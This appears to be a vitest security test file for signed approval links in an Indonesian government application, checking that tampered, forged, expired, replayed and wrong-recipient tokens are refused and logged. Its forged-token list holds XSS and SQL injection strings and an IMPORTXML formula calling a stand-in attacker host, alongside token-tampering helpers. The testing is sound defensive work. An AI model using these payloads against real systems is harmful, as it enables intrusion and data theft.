// Attacks on the mail links: forged, tampered field by field, expired, reused, replayed, other recipient, roster changed.
import { createHmac } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { Emulator, WebResponse } from '../../emulator';
import type { SentMail } from '../../emulator/state';
import {
  APPLICANT,
  act,
  auditRows,
  KABID,
  KADIS,
  lastMailTo,
  mailsTo,
  openLink,
  post,
  registerRows,
  SANDIMAN,
  tokenOf,
  webLinks,
} from '../e2e/harness';
import { atKadis, setPengaturan, snapshot, tally } from './support';

const REFUSED_TITLES: Record<string, string> = {
  INVALID_LINK: 'Tautan tidak sah',
  EXPIRED: 'Tautan kedaluwarsa',
  USED: 'Tautan sudah dipakai',
  OTHER_RECIPIENT: 'Tautan bukan untuk Anda',
  ROSTER_CHANGED: 'Peran Anda sudah berubah',
  NOT_FOUND: 'Permohonan tidak ditemukan',
};

function b64url(bytes: Buffer): string {
  return bytes.toString('base64').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

function claimsOf(token: string): Record<string, unknown> {
  const payload = token.split('.')[0] ?? '';
  return JSON.parse(Buffer.from(payload.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('utf8'));
}

/** The same token with its payload changed and the original signature kept (what a tamperer can do). */
function tampered(token: string, change: (claims: Record<string, unknown>) => void): string {
  const claims = claimsOf(token);
  change(claims);
  const signature = token.split('.')[1] ?? '';
  return `${b64url(Buffer.from(JSON.stringify(claims), 'utf8'))}.${signature}`;
}

/** A token signed with a key the attacker guessed (not the Script Properties secret). */
function forged(claims: Record<string, unknown>, key: string): string {
  const payload = b64url(Buffer.from(JSON.stringify(claims), 'utf8'));
  const signature = createHmac('sha256', key).update(payload).digest();
  return `${payload}.${b64url(signature)}`;
}

/**
 * One attack: GET then POST with `token` as `user`. Each must show the refusal page in Indonesian, change nothing in
 * the register, outbox, mail, Data Terbatas or properties, and append one "Tautan ditolak" row per attempt naming the
 * method and reason. (google.script.run reaches no decision function: see 'links: google.script.run'.)
 */
function expectRefused(emu: Emulator, token: string, user: string, reason: keyof typeof REFUSED_TITLES): void {
  const before = snapshot(emu);
  const audits = auditRows(emu).length;
  const attempts: [string, () => WebResponse][] = [
    ['GET', () => emu.doGet({ query: { t: token }, user })],
    ['POST', () => post(emu, token, { action: 'DISPOSE', toEmail: '', instruction: 'serang' }, user)],
  ];
  for (const [method, attempt] of attempts) {
    tally.linksAttacked += 1;
    const page = attempt();
    expect(page.title, `${method} ${reason}`).toBe(REFUSED_TITLES[reason]);
    expect(snapshot(emu), `${method} ${reason} changed the application`).toBe(before);
    const last = auditRows(emu).at(-1);
    expect(last).toMatchObject({ Peristiwa: 'Tautan ditolak', Keterangan: `${method} ${reason}` });
    tally.linksRefused += 1;
  }
  expect(auditRows(emu).length).toBe(audits + 2);
}

describe('links: forged and tampered', () => {
  it('a token altered in any single field, with the original signature, is refused as not valid', () => {
    const emu = atKadis();
    const token = tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? '');
    const changes: Record<string, (c: Record<string, unknown>) => void> = {
      app: (c) => {
        c.app = 'TTE-2026-0002';
      },
      step: (c) => {
        c.step = 'DIDISPOSISI_KABID';
      },
      role: (c) => {
        c.role = 'KABID_PERSANDIAN';
      },
      to: (c) => {
        c.to = KABID;
      },
      ver: (c) => {
        c.ver = Number(c.ver) + 1;
      },
      exp: (c) => {
        c.exp = Number(c.exp) + 365 * 86_400_000;
      },
      nonce: (c) => {
        c.nonce = 'ffffffff-0000-4000-8000-000000000000';
      },
      act: (c) => {
        c.act = 'STATUS';
      },
      extraField: (c) => {
        c.admin = true;
      },
    };
    for (const [field, change] of Object.entries(changes)) {
      const bad = tampered(token, change);
      expect(bad, field).not.toBe(token);
      expectRefused(emu, bad, KADIS, 'INVALID_LINK');
    }
    // The signature itself altered by one character, truncated, or dropped.
    const [payload = '', signature = ''] = token.split('.');
    const flipped = `${signature.slice(0, -1)}${signature.endsWith('A') ? 'B' : 'A'}`;
    for (const bad of [`${payload}.${flipped}`, `${payload}.${signature.slice(0, 10)}`, payload, `${payload}.`]) {
      expectRefused(emu, bad, KADIS, 'INVALID_LINK');
    }
    // The page still works with the real token: the attacks changed nothing.
    expect(openLink(emu, `x?t=${token}`, KADIS).title).not.toBe('Tautan tidak sah');
  });

  it('forged tokens (guessed keys, garbage, oversize, injection in the token) are refused', () => {
    const emu = atKadis();
    const real = claimsOf(tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? ''));
    const forgeries = [
      forged(real, ''),
      forged(real, 'secret'),
      forged(real, 'bolmongkab'),
      forged({ ...real, ver: 99 }, 'HMAC_SECRET'),
      'x',
      '.',
      'a.b.c',
      '<script>alert(1)</script>',
      "' OR '1'='1",
      '=IMPORTXML("https://evil.example/","//a")',
      'A'.repeat(5000),
      `${'A'.repeat(2000)}.${'B'.repeat(2000)}`,
      '\u0000\u200b.\u202e',
    ];
    for (const token of forgeries) expectRefused(emu, token, KADIS, 'INVALID_LINK');
    // No page reflects the forged text as markup.
    const page = emu.doGet({ query: { t: '<script>alert(1)</script>' }, user: KADIS });
    expect(page.content).not.toContain('<script>alert(1)');
  });
});

describe('links: expired, reused, replayed', () => {
  it('an expired link is refused; nothing changes', () => {
    const emu = atKadis();
    const token = tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? '');
    emu.advanceClock(73 * 60);
    expectRefused(emu, token, KADIS, 'EXPIRED');
  });

  it('a used link, and every older link of the application, is refused once the step moved on', () => {
    const emu = atKadis();
    const verify = tokenOf(webLinks(mailsTo(emu, APPLICANT)[0] as SentMail)[0] ?? '');
    const kadis = tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? '');
    act(emu, KADIS, { action: 'DISPOSE', toEmail: '', instruction: 'Proses' });
    expect(registerRows(emu)[0]?.Status).toBe('Didisposisikan ke Kabid Persandian');
    expectRefused(emu, kadis, KADIS, 'USED');
    expectRefused(emu, verify, APPLICANT, 'USED');
    emu.advanceClock(3);
    act(emu, KABID, { action: 'DISPOSE', toEmail: '', instruction: 'Periksa' });
    // Replayed two steps later: still refused, and the Sandiman's step is untouched.
    const status = registerRows(emu)[0]?.Status;
    expectRefused(emu, kadis, KADIS, 'USED');
    expectRefused(emu, kadis, SANDIMAN, 'USED');
    expect(registerRows(emu)[0]?.Status).toBe(status);
  });

  it('a GET of a valid link, any number of times, by anyone, changes nothing at all (mail scanners)', () => {
    const emu = atKadis();
    const url = webLinks(lastMailTo(emu, KADIS))[0] ?? '';
    const before = snapshot(emu);
    const audits = auditRows(emu).length;
    for (let i = 0; i < 10; i += 1) {
      const page = emu.doGet({ query: { t: tokenOf(url), action: 'DISPOSE', toEmail: KABID }, user: KADIS });
      expect(page.status).toBe(200);
      expect(page.content).toContain('method="post"');
    }
    // A scanner outside the domain (no signed-in identity revealed) fetches it too.
    emu.doGet({ query: { t: tokenOf(url) }, user: 'scanner@outlook.com' });
    expect(snapshot(emu)).toBe(before);
    expect(auditRows(emu).length).toBe(audits);
    // The page never submits itself (no script that could act when a sandbox runs it).
    const page = openLink(emu, url, KADIS);
    expect(page.content).not.toMatch(/\.submit\(\)|onload=/i);
  });
});

describe('links: recipients and roster', () => {
  it('another signed-in official using a link sent to someone else is refused', () => {
    const emu = atKadis();
    const token = tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? '');
    expectRefused(emu, token, KABID, 'OTHER_RECIPIENT');
    expectRefused(emu, token, SANDIMAN, 'OTHER_RECIPIENT');
    expectRefused(emu, token, APPLICANT, 'OTHER_RECIPIENT');
    expect(registerRows(emu)[0]?.Status).toBe('Menunggu disposisi Kepala Dinas');
  });

  it('a link whose recipient was removed from the roster is refused, and the new holder can act', () => {
    const emu = atKadis();
    const token = tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? '');
    setPengaturan(emu, 'Peran Kepala Dinas', 'kadis.baru@bolmongkab.go.id');
    expectRefused(emu, token, KADIS, 'ROSTER_CHANGED');
  });
});

describe('links: google.script.run', () => {
  /** Names a page's script might try: the old sidebar entry point and the web app's internals (none is top-level). */
  const DECISION_FUNCTIONS = ['submitDecision', 'decide', 'handlePost', 'applyAction', 'commitTransition'];

  it('reaches no decision function, from a web app page or the sidebar, even with a valid link', () => {
    const emu = atKadis();
    const token = tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? '');
    const before = snapshot(emu);
    const audits = auditRows(emu).length;
    for (const name of DECISION_FUNCTIONS) {
      for (const from of ['webapp', 'dialog'] as const) {
        tally.linksAttacked += 1;
        const run = emu.scriptRun(name, [token, { t: token, action: 'DISPOSE', instruction: 'serang' }], {
          user: KADIS,
          from,
        });
        expect(run, `${name} from ${from}`).toEqual({ ok: false, error: `Script function not found: ${name}` });
        expect(snapshot(emu)).toBe(before);
        tally.linksRefused += 1;
      }
    }
    expect(auditRows(emu).length).toBe(audits);
    // The link itself still works as a POST: the attempts used nothing up.
    act(emu, KADIS, { action: 'DISPOSE', toEmail: '', instruction: 'Proses' });
    expect(registerRows(emu)[0]?.Status).toBe('Didisposisikan ke Kabid Persandian');
  });

  it('doPost called through google.script.run with a crafted event gets no more than a POST: a bad link is refused', () => {
    const emu = atKadis();
    const token = tokenOf(webLinks(lastMailTo(emu, KADIS))[0] ?? '');
    const bad = tampered(token, (c) => {
      c.role = 'VERIFIKATOR';
    });
    const before = snapshot(emu);
    tally.linksAttacked += 1;
    const event = { postData: { contents: `t=${encodeURIComponent(bad)}&action=DISPOSE`, type: 'text/plain' } };
    const run = emu.scriptRun('doPost', [event], { user: KADIS });
    // The HtmlOutput it returns cannot cross google.script.run; what matters is that nothing changed.
    expect(run.ok).toBe(false);
    expect(snapshot(emu)).toBe(before);
    expect(auditRows(emu).at(-1)).toMatchObject({ Peristiwa: 'Tautan ditolak', Keterangan: 'POST INVALID_LINK' });
    tally.linksRefused += 1;
  });
});
